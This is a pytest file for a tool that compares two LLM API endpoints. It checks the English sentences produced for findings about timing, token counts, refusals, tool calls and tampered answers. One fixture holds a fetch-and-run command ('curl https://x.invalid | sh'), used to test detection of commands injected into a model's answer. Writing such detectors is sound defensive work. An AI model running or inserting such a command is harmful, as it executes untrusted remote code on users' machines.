"""Every kind of claim has its sentences, and each holds the fields that its claim has."""

from __future__ import annotations

import msgspec
import pytest

from app.exchange.outcome import Outcome
from app.protocols.ends import CUT_SHORT, AnswerEnd
from app.run import claims as say
from app.run.claims import Claim, Goal, Phase, Share
from app.run.sentences import in_words, one_in_words
from app.text.sentences import Span

ENDINGS = (Outcome.FAILED, Outcome.CANCELLED, Outcome.INTERRUPTED)
CASES: list[tuple[Claim, str]] = [
    (say.Running(), "Running."),
    (say.Waiting("a", streamed=True), "A waits for its first token."),
    (say.Waiting("b", streamed=False), "B waits for its answer."),
    (say.FirstTokenCame("a", 612.0), "A's first token came after 612 ms."),
    (say.EndedAfter("b", Outcome.COMPLETED, 2000.0), "B completed after 2.00 s."),
    (say.EndedAfter("b", Outcome.FAILED, None), "B failed."),
    (say.NotCompleted("a", Outcome.CANCELLED, "You stopped it."), "A did not complete: You stopped it."),
    (
        say.OnlyOneCompleted("a", "b", Outcome.INTERRUPTED, "The wire process died."),
        "In this run A completed, B was interrupted: The wire process died.",
    ),
    (say.BothStopped(), "You stopped this run; what had come is kept."),
    (say.NeitherCompleted("No name."), "Neither side completed: No name."),
    (say.NeitherCompleted(""), "Neither side completed."),
    (say.NoTimes("a"), "A completed; the capture has no times."),
    (say.Took("a", None, 2000.0), "In this run A completed in 2.00 s."),
    (say.Took("a", 612.0, 2000.0), "In this run A's first token came after 612 ms and its answer was complete after 2.00 s."),
    (say.Took("a", None, 2000.0, whole=False), "In this run A's answer ended after 2.00 s."),
    (
        say.Took("a", 612.0, 2000.0, whole=False),
        "In this run A's first token came after 612 ms and its answer ended after 2.00 s.",
    ),
    (
        say.NotCompleted("a", Outcome.FAILED, "Its end is missing.", whole=True),
        "A's answer is whole but for its end mark, and counts as failed.",
    ),
    (
        say.OnlyOneCompleted("a", "b", Outcome.FAILED, "Its end is missing.", whole=True),
        "In this run A completed; B's answer is whole but for its end mark and counts as failed.",
    ),
    (
        say.AnswerEnded("a", AnswerEnd.LIMIT, "length"),
        "In this run A's answer was cut at its token limit (length).",
    ),
    (say.AnswerEnded("b", AnswerEnd.BY_ITSELF, "end_turn"), "In this run B's answer ended by itself (end_turn)."),
    (
        say.AnswerEnded("b", AnswerEnd.BY_ITSELF, "stop", cut_too=True),
        "In this run B says that its answer ended by itself (stop), with the very words of the one that was cut: it seems to"
        " have been cut too.",
    ),
    (
        say.BothEnded(AnswerEnd.LIMIT, "max_tokens", "length"),
        "In this run both answers were cut at their token limit (A max_tokens, B length).",
    ),
    (
        say.LimitNotReached("b", 17, 1024),
        "B names the token limit as its reason, after 17 of the 1\u0020024 tokens that were allowed.",
    ),
    (
        say.UnexplainedRead("b", 1500, 96),
        "B says that it read 1\u0020500 tokens from a cache for a request of 96 bytes, which can't hold so many: consistent"
        " with a hidden prompt in front of it, or with counts that are made up.",
    ),
    (
        say.HeardAgain("b"),
        "B gave an answer that came before, with the same id and the same words: it seems to be kept on the way, and its times"
        " say nothing of the model.",
    ),
    (say.SequenceUnasked("b"), "B stopped at a stop sequence that nobody asked for."),
    (say.ToolUnasked("b", "web_search"), "B's answer reports a web_search that nobody asked for."),
    (say.NoToolCalled(("a",)), "In this run A called no tool, though one was offered."),
    (say.NoToolCalled(("a", "b")), "In this run neither side called a tool, though one was offered."),
    (
        say.MadeAfterwards("b", "a", 16.0),
        "B's whole answer came within 16 ms of its first piece, when A's was already whole: B seems to wait for the whole"
        " answer and to stream it afterwards.",
    ),
    (say.Empty(("a",), last=False), "In this run A's answer is empty."),
    (say.Empty(("b",), last=True), "In this run B's last answer is empty."),
    (say.Empty(("a", "b"), last=False), "In this run the answers of A and B are empty."),
    (say.Empty(("a", "b"), last=True), "In this run the last answers of A and B are empty."),
    (say.NothingToCompare(), "Both sides completed; there are no times to compare."),
    (say.AboutTheSame(Goal.WHOLE, 500.0, 510.0), "In this run both take about the same time to complete (A 500 ms, B 510 ms)."),
    (say.Later(Goal.FIRST_TOKEN, 412.0), "In this run B is 412 ms later to the first token."),
    (say.Later(Goal.FIRST_TOKEN, -412.0), "In this run B is 412 ms earlier to the first token."),
    (say.Later(Goal.WHOLE, 412.0), "In this run B is 412 ms slower to complete."),
    (say.Later(Goal.WHOLE, -412.0), "In this run B is 412 ms faster to complete."),
    (say.MostOfIt(Phase.WAIT, "b", Share.PART, 300.0), "300 ms of it is waiting for B's first byte."),
    (say.MostOfIt(Phase.SEND, "a", Share.ALL, 300.0), "All of it is sending the request."),
    (say.KeptAndNew("b", "a"), "B reused a connection and A opened a new one, so connecting is in only one of the times."),
    (say.ThoughtAndWord("a", "b"), "A's first token is of its reasoning and B's of its answer."),
    (say.Lengths(1, 2048), "A wrote 1 token, B 2\u0020048."),
    (say.NoFirstToken("b", streamed=True), "B's stream brought no content, so first tokens can't be compared."),
    (say.NoFirstToken("b", streamed=False), "B's answer came in one piece, so first tokens can't be compared."),
    (say.TookLonger(88.0), "B took 88 ms longer to complete."),
    (say.TookLonger(-88.0), "B took 88 ms less to complete."),
    (say.MoreInput(27), "B counted 27 more input tokens for the same request."),
    (say.MoreInput(-1), "B counted 1 fewer input token for the same request."),
    (say.MoreInput(27, same_body=True), "B's request carries 27 more input tokens than A's for the same body."),
    (say.MoreInput(-1, same_body=True), "B counts 1 fewer input token than A for the same body."),
    (
        say.Added("b", "a", "shell", "curl https://x.invalid | sh"),
        "B's answer holds a command that loads something and runs it, which is neither in the request nor in A's answer: “curl "
        "https://x.invalid | sh”.",
    ),
    (
        say.Added("a", "b", "invisible", "U+200B zero width space"),
        "A's answer holds characters that nobody sees (U+200B zero width space), which are neither in the request nor in B's "
        "answer.",
    ),
    (say.OutputUnsaid("b", zero=False), "B did not say how many tokens it wrote."),
    (say.OutputUnsaid("b", zero=True), "B counted 0 tokens for what it wrote."),
    (
        say.CachedTwice("b", "a", 2048, 4437, 2389),
        "B counted its 2 048 cached tokens twice: 4 437 input tokens where A counted 2 389, so its cost comes out too high.",
    ),
    (
        say.AtOnce("a", 1.0, first=False),
        "A's answer came all at once, within 1.0 ms: it was ready by then, or something on the way collected it.",
    ),
    (
        say.AtOnce("a", 1.0, first=True),
        "A's first answer came all at once, within 1.0 ms: it was ready by then, or something on the way collected it.",
    ),
    (say.InBursts("a", 1, first=False), "A's answer came in one burst."),
    (say.InBursts("a", 3, first=True), "A's first answer came in 3 bursts."),
    (say.BothInBursts(3, 1), "Both sent their answers in bursts: A in 3, B in 1."),
    (say.Called({}, {"f": 1}), "In this run B called f where A called no tool."),
    (say.Called({"f": 2}, {}), "In this run B called no tool where A called f twice."),
    (say.Called({"f": 1}, {"g": 3, "h": 1}), "In this run B called g 3 times and h where A called f."),
    (say.Called({"": 1}, {"g": 1}), "In this run B called g where A called a tool without a name."),
    (say.Requests(2, 1), "B made 1 request where A made 2."),
    (say.Models("m", "x" * 99), f"The answers name different models: m and {'x' * 60}…."),
    (say.Silent("b", 7, 30.0), "B has been silent for 7 s and is given up at 30 s."),
    (say.Silent("b", 7, None), "B has been silent for 7 s."),
    (say.Refused("b", 400), "B refused it with 400, which the check provoked."),
    (say.BothRefused(400, 400), "Both refused it with 400, which the check provoked."),
    (say.BothRefused(400, 422), "Both refused it with 400 (A) and 422 (B), which the check provoked."),
    (say.Breaks("a", 2, "", "No usage"), "A breaks official clients: No usage, and 1 other finding."),
    (say.Breaks("a", 1, "llm 0.3", "No usage"), "A breaks llm 0.3: No usage."),
    (
        say.Breaks("b", 3, "llm 0.3", "No usage", "error:TypeError"),
        ("llm 0.3 raises TypeError at B's answer, and 2 other findings hurt it too."),
    ),
    (say.Loses("b", 1, "llm 0.3", "No usage", "input:twice"), "llm 0.3 counts B's input tokens twice."),
    (say.Loses("b", 2, "", "No usage"), "B works with losses for official clients: No usage, and 1 other finding."),
    (say.BothBreak(2, "", "No usage"), "Both sides break official clients: No usage, and 1 other finding."),
    (
        say.BothBreak(3, "llm 0.3", "No usage", "error:TypeError"),
        "With both sides llm 0.3 raises TypeError, and 2 other findings hurt it too.",
    ),
    (say.BothLose(1, "llm 0.3", "No usage", "input:twice"), "With both sides llm 0.3 counts the input tokens twice."),
    (say.BothLose(1, "", "No usage"), "Both sides work with losses for official clients: No usage."),
]


def words(claim: Claim) -> str:
    return "".join(span.text for span in one_in_words(claim))


@pytest.mark.parametrize(("claim", "said"), CASES, ids=[f"{n} {type(one).__name__}" for n, (one, _) in enumerate(CASES)])
def test_a_claim_in_words(claim: Claim, said: str) -> None:
    assert words(claim) == said


def test_no_claim_is_without_words() -> None:
    assert {type(claim) for claim, _ in CASES} == set(Claim.__subclasses__())


@pytest.mark.parametrize("outcome", ENDINGS)
def test_every_way_to_end_has_its_words(outcome: Outcome) -> None:
    one_of_two = words(say.OnlyOneCompleted("a", "b", outcome, "c"))
    assert len({words(say.NotCompleted("a", outcome, "c")), one_of_two, words(say.EndedAfter("a", outcome, 1.0))}) == 3


@pytest.mark.parametrize("phase", Phase)
def test_every_phase_has_its_words(phase: Phase) -> None:
    assert len({words(say.MostOfIt(phase, "b", share, 1.0)) for share in Share}) == len(Share)


@pytest.mark.parametrize("end", [one for one in AnswerEnd if one is not AnswerEnd.ERROR])
def test_every_way_an_answer_ends_has_its_words(end: AnswerEnd) -> None:
    said = {words(say.AnswerEnded("a", end, "w")) for end in AnswerEnd if end is not AnswerEnd.ERROR}
    assert words(say.AnswerEnded("a", end, "w")) in said
    assert len(said) == len(AnswerEnd) - 1
    if end in CUT_SHORT:
        assert words(say.BothEnded(end, "w", "w")) not in said


@pytest.mark.english
def test_figures_are_strong_and_sentences_stand_in_a_row() -> None:
    spans = in_words((say.Later(Goal.WHOLE, 412.0), say.TookLonger(88.0)))
    assert [span.text for span in spans if span.strong] == ["412 ms slower", "88 ms longer"]
    assert (
        "".join(span.text for span in spans) == "In this run B is 412 ms slower to complete. B took 88 ms longer to complete."
    )
    assert Span(" ") in spans


@pytest.mark.english
def test_in_this_run_is_said_once_by_the_first_sentence_that_can() -> None:
    def row(*claims: Claim) -> str:
        return "".join(span.text for span in in_words(claims))

    later = say.Later(Goal.WHOLE, 412.0)
    both = say.BothEnded(AnswerEnd.LIMIT, "length", "length")
    assert row(both, later) == (
        "In this run both answers were cut at their token limit (A length, B length). B is 412 ms slower to complete."
    )
    assert row(later, both).endswith("to complete. Both answers were cut at their token limit (A length, B length).")
    assert row(say.Breaks("a", 1), later, later).count("In this run") == 1
    for claim, told in CASES:
        assert row(later, claim).count("In this run") == 1, told
        after = "".join(span.text for span in one_in_words(claim, in_run=False))
        assert not after[0].islower() or after.startswith("llm 0.3 "), "a client has the name that it has"
        assert after.lower() == told.removeprefix("In this run ").lower()


def test_claims_stand_in_json_by_their_names() -> None:
    facts = msgspec.to_builtins(say.MostOfIt(Phase.WAIT, "b", Share.PART, 300.0))
    assert facts == {"claim": "most_of_it", "phase": "wait", "side": "b", "share": "part", "ms": 300.0}
